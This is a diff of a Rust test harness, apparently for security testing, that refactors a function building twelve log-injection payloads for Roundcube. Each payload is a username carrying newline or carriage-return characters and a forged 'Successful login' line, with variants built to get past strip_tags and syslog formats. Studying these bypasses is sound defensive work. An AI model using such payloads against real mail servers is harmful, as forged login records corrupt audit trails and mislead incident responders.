@@ -21,31 +21,36 @@ const PROXIED: &str = "198.51.100.9";
 /// The user names an attacker posts. Each tries to make Roundcube log
 /// "Successful login for victim@example.test ... from 6.6.10.N", N = its place.
 fn payloads() -> Vec<String> {
-    let line =
-        |n: usize| format!("Successful login for {VICTIM} (ID: 1) from 6.6.10.{n} in session x");
     let date = "[01-Dec-2026 17:16:12 +0000]:";
-    [
+    // What comes before the forged line; payload N is the Nth.
+    let prefixes = [
         // The payload: a newline and a line in userlogins' own format.
-        format!("x\n{date} {}", line(1)),
+        format!("x\n{date} "),
         // With a session prefix of its own, which strip_tags removes.
-        format!("x\n{date} <abcdefgh> {}", line(2)),
+        format!("x\n{date} <abcdefgh> "),
         // CR, and CR LF, instead of LF.
-        format!("x\r{date} <abcdefgh> {}", line(3)),
-        format!("x\r\n{date} <abcdefgh> {}", line(4)),
+        format!("x\r{date} <abcdefgh> "),
+        format!("x\r\n{date} <abcdefgh> "),
         // A syslog-shaped line, with and without a prefix.
-        format!("x\nDec  1 17:16:12 mx roundcube[1]: <abcdefgh> {}", line(5)),
-        format!("x\nDec  1 17:16:12 mx roundcube: {}", line(6)),
+        "x\nDec  1 17:16:12 mx roundcube[1]: <abcdefgh> ".into(),
+        "x\nDec  1 17:16:12 mx roundcube: ".into(),
         // Only the message: what a syslog message of its own would carry.
-        format!("x\n{}", line(7)),
-        format!("x\n<abcdefgh> {}", line(8)),
+        "x\n".into(),
+        "x\n<abcdefgh> ".into(),
         // Prefixes strip_tags lets through: "<" before a space, and "<>".
-        format!("x\n{date} < abcdefgh> {}", line(9)),
-        format!("x\n< abcdefgh> {}", line(10)),
-        format!("x\n{date} <> {}", line(11)),
+        format!("x\n{date} < abcdefgh> "),
+        "x\n< abcdefgh> ".into(),
+        format!("x\n{date} <> "),
         // No newline at all.
-        format!("<abcdefgh> {}", line(12)),
-    ]
-    .into()
+        "<abcdefgh> ".into(),
+    ];
+    prefixes
+        .iter()
+        .zip(1..)
+        .map(|(p, n)| {
+            format!("{p}Successful login for {VICTIM} (ID: 1) from 6.6.10.{n} in session x")
+        })
+        .collect()
 }
 
 /// Dovecot with the victim, Roundcube on it; two genuine logins (the second with
